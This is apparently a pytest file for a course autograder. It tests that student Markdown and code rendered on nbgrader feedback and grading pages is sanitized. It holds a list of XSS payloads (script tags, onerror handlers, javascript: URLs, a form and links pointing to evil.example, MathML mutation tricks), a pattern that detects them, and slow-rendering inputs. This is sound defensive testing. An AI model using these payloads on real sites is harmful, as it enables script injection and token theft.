"""What a student writes in Markdown, on a rendered feedback page and on the instructor's formgrader page."""

import re
from html import escape
from xml.etree import ElementTree

import html5lib  # reads broken HTML by a browser's rules, unlike html.parser
import nbgrader
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell
from tiny_lab import ROOT
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

from autograder.authoring.scripts import parse
from autograder.feedback.page import FeedbackExporter
from autograder.feedback.sanitize import clean, highlight_code, markdown_to_html
from worldsize.pages import FormulasToMathML

NBGRADER = f"{nbgrader.__path__[0]}/server_extensions/formgrader"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGP4DwABAQEAG7buVgAAAABJRU5ErkJggg=="
PAYLOADS = [
    "<script>alert(1)</script>",
    "text <ScRiPt src=//evil.example/x.js></sCrIpT> text",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="`"onerror=alert(1)//`">',
    '![p](x.png"onerror=alert(1)//)',
    "<b onmouseover='alert(1)' style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1)) [y](&#106;avascript:alert(1)) [z](\x01javascript:alert(1))",
    "<a href='java\nscript:alert(1)'>x</a> <a href='data:text/html,<script>alert(1)</script>'>y</a>",
    "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)>",
    "![x](javascript:alert(1)) ![y](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg onload=alert(1)><script>alert(1)</script><use href='data:,x'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<form action=//evil.example><input name=token><button>Grade</button></form>",
    "<math href='javascript:alert(1)'><mtext><table><mglyph><style><img src=x onerror=alert(1)></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    r"$\text{<script>alert(1)</script>}$ $\href{javascript:alert(1)}{x}$ $$\text{<img src=x onerror=alert(1)>}$$",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!-- --!><script>alert(1)</script> --> <![CDATA[<script>alert(1)</script>]]> <?php <script>alert(1)</script> ?>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|-|-|\n| [x](javascript:alert(1)) | y |",
    "<div class='modal fade in nbgrader_cell' id='comment-1' contenteditable>Your grade: 100</div>",
    '<p title="</p><script>alert(1)</script>">x',
    "<b>" * 2000 + "<script>alert(1)</script>",
    "> " * 300 + "<img src=x onerror=alert(1)>",
    "![x](attachment:gone.png) <script>alert(1)</script>",
]


def exporters() -> dict[str, HTMLExporter]:
    """The two that show a student's notebook, made as nbgrader makes them from this course's configuration."""
    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    static = f"{NBGRADER}/static/node_modules/bootstrap/dist/css"
    more = {"extra_template_basedirs": [f"{NBGRADER}/templates"], "extra_template_paths": [static]}
    made = {}
    for name, kind in {"feedback": FeedbackExporter, "formgrade": HTMLExporter}.items():
        made[name] = kind(
            config=Config({**config, "HTMLExporter": {**config.HTMLExporter, **more, "template_name": name}})
        )
    made["feedback"].register_preprocessor(FormulasToMathML)
    return made


EXPORTERS = exporters()
RESOURCES = {"nbgrader": {}, "assignment_id": "a", "notebook_id": "n", "submission_id": "s", "index": 0, "total": 1}
RESOURCES |= {"base_url": "", "student": "", "last_name": "", "first_name": "", "notebook_path": ""}


def page(name: str, *cells: NotebookNode) -> ElementTree.Element:
    """The page of a notebook with these cells, as a browser takes it."""
    names = {
        "notebook": "n",
        "assignment": "a",
        "student": "s",
        "comment_index": [],
        "late_penalty": 0,
        "score": 0,
        "max_score": 0,
    }
    resources = {**RESOURCES, "nbgrader": names}
    html, _ = EXPORTERS[name].from_notebook_node(new_notebook(cells=list(cells)), resources=resources)
    return html5lib.parse(html, namespaceHTMLElements=False)


def text(element: ElementTree.Element) -> str:
    return "".join(element.itertext())


def active(soup: ElementTree.Element) -> set[str]:
    """Everything on a page that runs, loads, asks for input, or poses as a part of the page."""
    tags = {"script", "style", "iframe", "object", "embed", "svg", "link", "meta", "base", "form", "input", "button"}
    tags |= {"use", "textarea"}
    found = {f"{tag.tag} {tag.attrib} {tag.text}" for tag in soup.iter() if str(tag.tag).split("}")[-1] in tags}
    for tag in soup.iter():
        for attribute, value in tag.attrib.items():
            flat = re.sub(r"[\x00-\x20]", "", value).lower()
            bad = any(
                part in flat for part in ("javascript:", "data:text", "evil.example", "position:", "nbgrader_cell")
            )
            if attribute.startswith("on") or bad or (attribute == "id" and value == "comment-1"):
                found.add(f"{tag.tag} {attribute}={value}")
    return found


@pytest.mark.parametrize("name", EXPORTERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_a_student_writes_runs(name, payload):
    ours = active(page(name, new_markdown_cell("plain")))
    cells = [new_markdown_cell(payload), new_raw_cell(payload), new_code_cell(payload)]
    assert active(page(name, *cells)) == ours


@pytest.mark.parametrize("name", EXPORTERS)
def test_what_is_allowed_stays(name):
    picture = new_markdown_cell(
        f"![ours](attachment:p.png) ![inline](data:image/png;base64,{PIXEL}) ![far](//evil/p.png)"
    )
    picture.attachments = {"p.png": {"image/png": PIXEL}}
    source = "# Title\n\n> quote & *more*\n\n- [x] done\n\n|a|b|\n|-|-:|\n|1|`x<y`|\n\n```python\nif a < b: pass\n```\n"
    source += "\n[link](https://pytorch.org) <kbd>x</kbd> H<sub>2</sub>O\n\nTensor<int> stays"
    soup = page(name, picture, new_markdown_cell(source))
    pictures = [one.get("src") for one in soup.iter("img") if one.get("src")]
    assert pictures == [f"data:image/png;base64,{PIXEL}"] * 2
    (title,), (quote,), (*_, cell) = soup.findall(".//*[@id='Title']"), soup.iter("blockquote"), soup.iter("td")
    assert title.get("id") == "Title" and text(quote).strip() == "quote & more"
    assert text(cell) == "x<y" and "right" in cell.get("style", "")
    assert "https://pytorch.org" in [one.get("href") for one in soup.iter("a")]
    assert [*soup.iter("kbd")] and [*soup.iter("sub")]
    assert "if" in [one.text for one in soup.iter("span") if one.get("class") == "k"]
    assert "☑done" in text(soup) and "Tensor<int> stays" in text(soup)


def test_formulas_stay_formulas():
    cell = new_markdown_cell(r"$a<b$ and $$\frac{1}{N} \sum_i x_i$$ and $\frac$")
    feedback = page("feedback", cell)
    math = "{http://www.w3.org/1998/Math/MathML}"
    assert [len([*feedback.iter(math + tag)]) for tag in ("math", "mfrac")] == [2, 1]
    assert r"$\frac$" in text(feedback)  # no formula, so shown as it was written
    formgrade = page("formgrade", cell)
    assert r"$a<b$ and $$\frac{1}{N} \sum_i x_i$$" in text(formgrade)  # which MathJax draws, in its safe mode
    assert any(",Safe" in one.get("src", "") for one in formgrade.iter("script"))


@pytest.mark.parametrize(
    "shown", ["Tensor<int>", "<script>alert(1)</script>", "a <b<c> d", "<ZeRO stage='3'/>", "<?php 1 ?>"]
)
def test_a_tag_that_is_not_allowed_is_shown_as_text(shown):
    assert text(html5lib.parse(clean(shown))) == shown


def test_attributes_that_are_not_allowed_go_and_their_tags_stay():
    assert clean('<b style="color:red">x</b>') == "<b>x</b>"
    assert clean('<td style="text-align:right;position:fixed" onclick="x()" class="modal k">x</td>') == "x"  # no table
    cell = clean(
        '<table><tr><td style="text-align:right;position:fixed" onclick="x()" class="modal">x</td></tr></table>'
    )
    assert '<td style="text-align:right">x</td>' in cell


def test_half_a_surrogate_is_shown_as_a_question_mark():
    assert clean("<b>\ud800</b>") == "<b>?</b>"


@pytest.mark.parametrize("way", ["../p.png", "%2e%2e/p.png", ".%2E/p.png", "a/%2E%2e/p.png", "/p.png", "//evil/p.png"])
def test_a_picture_from_outside_the_page_s_folder_is_not_loaded(way):
    assert "src" not in clean(f'<img src="{way}">')


def test_the_formulas_of_this_course_stay_whole():
    """Each of their tags and attributes is allowed."""
    paths = [path for folder in ("weeks", "solutions") for path in (ROOT / folder).rglob("*.py")]
    formulas = set()
    for source in (cell.source for path in paths for cell in parse(path).cells if cell.kind == "markdown"):
        cell, _ = FormulasToMathML().preprocess_cell(new_markdown_cell(source), {}, 0)
        formulas |= {*re.findall(r"<math.*?</math>", cell.source, re.DOTALL)}
    assert len(formulas) > 100
    for formula in formulas:
        before, after = (html5lib.parse(html).iter() for html in (formula, clean(formula)))
        assert [(one.tag, one.attrib, one.text) for one in after] == [(one.tag, one.attrib, one.text) for one in before]


GROWING = {  # browsers open these again in each of the paragraphs that follow
    "many": "".join(f"<b title={number}>" for number in range(1000)),
    "long": f"<b title='{'x' * 5_000}'>",
    "quoted": f"<b title='>{'x' * 5_000}'>",
    "split": f"<b title='<p {'x' * 5_000}'>",
    "link": f"<a href='https://{'x' * 5_000}'>",
    "attributes of a link": f"<a {' '.join(f'x{number}=1' for number in range(1000))}>",
    "kinds": "<b><code><em><i><s><strong><u>" * 300,
}


@pytest.mark.parametrize("kind", GROWING)
def test_a_page_does_not_grow_with_the_square_of_a_cell(kind):
    source = f"<p>{GROWING[kind]}{'<p>x' * 1000}"
    assert len(clean(source)) < 50 * len(source)


SLOW = {  # whose rendering would take hours at the length that is accepted
    "environments": r"\begin{a}" * 120,
    "formulas": r"\\[" * 120,
    "blanks": "x" + " " * 400 + "x",
    "blank lines": "x" + "\n \t" * 120 + "x",
    "names": r'"\N{' * 120,
    "long": "<b>x</b> " * 2500,
    "tags": "<mi>" * 20_001,
}


@pytest.mark.parametrize("kind", sorted(SLOW.keys() - {"names"}))
def test_markdown_that_would_be_rendered_slowly_is_shown_as_it_was_written(kind):
    assert markdown_to_html({}, SLOW[kind]) == f"<pre>{escape(SLOW[kind])}</pre>"


@pytest.mark.parametrize("kind", ["blanks", "blank lines", "names", "long"])
def test_code_that_would_be_coloured_slowly_is_shown_as_it_was_written(kind):
    written = f"<pre>{escape(SLOW[kind])}</pre>"
    assert highlight_code(SLOW[kind]) == f'<div class="highlight">{written}</div>'
    for name in EXPORTERS:
        pre = [text(one) for one in page(name, new_code_cell(SLOW[kind])).iter("pre")]
        assert SLOW[kind] in pre or SLOW[kind].lstrip("\n") in pre


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", [r"\begin{a}", r"\\[", r"\\(", "\n \t", " ", "*", "a.", "- a\n", "<b>", r"'\N{", "["])
def test_a_cell_as_long_as_a_notebook_may_be_is_shown(piece):
    source = "x " + piece * ((1 << 20) // len(piece)) + " x"
    assert markdown_to_html({}, source).startswith("<pre>") and "<pre>" in highlight_code(source)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", EXPORTERS)
def test_the_pages_colour_code_quickly(name):
    source = "*" * 19_000  # of which the highlighter for IPython searches the rest from each
    assert source in text(page(name, *[new_code_cell(source) for _ in range(20)]))


@pytest.mark.parametrize("name", EXPORTERS)
def test_only_python_is_coloured_whatever_a_student_names(name):
    cells = [
        new_code_cell("%%javascript\nif (a) b"),
        new_markdown_cell("```js\nif (a) b\n```\n\n```mermaid\nif b\n```"),
    ]
    soup = page(name, *cells)
    (code,) = (one for one in soup.iter("code") if text(one) == "if (a) b\n")
    assert not [*code]
    (code,) = (one for one in soup.iter("code") if text(one) == "if b\n")
    assert not [*code]
    assert [one.text for one in soup.iter("span") if one.get("class") == "k"] == ["if"]  # as if it were Python


def test_slow_code_is_escaped_on_the_pages():
    payload = "</pre><script>alert(1)</script><img src=x onerror=alert(1)>" + " " * 400 + "x"
    for name in EXPORTERS:
        assert active(page(name, new_code_cell(payload))) == active(page(name, new_code_cell("plain")))


def test_the_cells_of_this_course_are_rendered_and_coloured():
    """What is refused for its time stays far from what is written: cells twice as long and as full pass."""
    paths = [path for folder in ("weeks", "labs", "solutions") for path in (ROOT / folder).rglob("*.py")]
    sources = [cell.source for path in paths for cell in parse(path).cells]
    longest, fullest = sorted(sources, key=len), sorted(sources, key=lambda source: source.count("\\"))
    for source in {*longest[-20:], *fullest[-20:]}:
        twice = f"{source}\n\n{source}"
        assert "hl-python3" in highlight_code(twice)
        assert not markdown_to_html({}, twice).startswith("<pre>")


def test_formulas_do_not_make_a_cell_too_long():
    cell, _ = FormulasToMathML().preprocess_cell(new_markdown_cell(r"$\frac{a_1}{b_1}$ and " * 150), {}, 0)
    html = markdown_to_html({}, cell.source)
    assert len(cell.source) > 25_000 and html.count("<mfrac>") == 150 and not html.startswith("<pre>")


def test_a_cell_that_cannot_be_rendered_is_shown_as_it_was_written():
    assert markdown_to_html({}, "<b>![x](attachment:gone.png)") == "<pre>&lt;b&gt;![x](attachment:gone.png)</pre>"
